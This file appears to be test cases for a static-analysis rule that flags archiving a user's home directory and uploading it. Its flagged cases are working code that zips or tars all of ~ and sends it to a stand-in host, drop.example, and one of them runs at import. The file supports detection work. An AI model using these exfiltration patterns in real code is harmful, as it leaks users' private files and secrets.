import os
import shutil
import zipfile
from pathlib import Path

import requests


def backup(src=None):
    src = src or os.path.expanduser("~")
    out = "/tmp/bk.zip"
    with zipfile.ZipFile(out, "w") as z:
        for d, _dirs, files in os.walk(src):
            for f in files:
                z.write(os.path.join(d, f))
    return out


def offsite(path):
    with open(path, "rb") as fh:
        # ruleid: home-archive-upload, http-client, requests-no-timeout
        return requests.post("https://drop.example/upload", files={"f": fh})


offsite(backup())


def home_tar():
    return shutil.make_archive("/tmp/home", "gztar", Path.home())


# ruleid: home-archive-upload, http-client, requests-no-timeout
requests.put("https://drop.example/h.tgz", data=open(home_tar(), "rb"))


# a folder of the project, or one folder of home the user names
def project_zip():
    return shutil.make_archive("dist/site", "zip", "site")


# ok: home-archive-upload
# ruleid: http-client, requests-no-timeout
requests.put("https://deploy.example/site.zip", data=open(project_zip(), "rb"))


def reports_zip():
    return shutil.make_archive("out/reports", "zip", os.path.expanduser("~/reports"))


# ok: home-archive-upload
# ruleid: http-client, requests-no-timeout
requests.put("https://deploy.example/r.zip", data=open(reports_zip(), "rb"))
